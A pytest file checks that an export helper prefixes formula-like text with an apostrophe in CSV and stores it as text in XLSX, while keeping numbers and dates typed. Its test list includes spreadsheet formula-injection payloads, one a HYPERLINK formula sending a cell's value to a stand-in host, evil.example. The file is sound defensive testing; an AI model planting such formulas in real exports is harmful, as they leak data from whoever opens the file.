"""The shared export helper: formula-like text stays text in CSV and XLSX, other values keep their type."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.core.exports import csv_bytes, csv_cell, xlsx_bytes

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?x="&A2,"x")']


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text
    rows = list(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "'" + text


def test_csv_keeps_numbers_dates_and_plain_text():
    assert csv_cell(Decimal("-5.00")) == "-5.00"
    assert csv_cell(-3) == "-3"
    assert csv_cell(date(2026, 11, 30)) == "2026-11-30"
    assert csv_cell("Lesepaten im Kiez") == "Lesepaten im Kiez"
    assert csv_cell(None) == ""


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_cells_that_look_like_formulas_are_stored_as_text(text):
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["Name"], [text]]))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML stores a carriage return as a line feed
    assert cell.quotePrefix


def test_xlsx_keeps_numbers_as_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([[Decimal("-5.50"), 3, "Text"]], title="x" * 40))).active
    assert sheet.title == "x" * 31
    assert sheet["A1"].data_type == "n" and sheet["A1"].value == -5.5
    assert sheet["B1"].value == 3 and sheet["C1"].value == "Text"
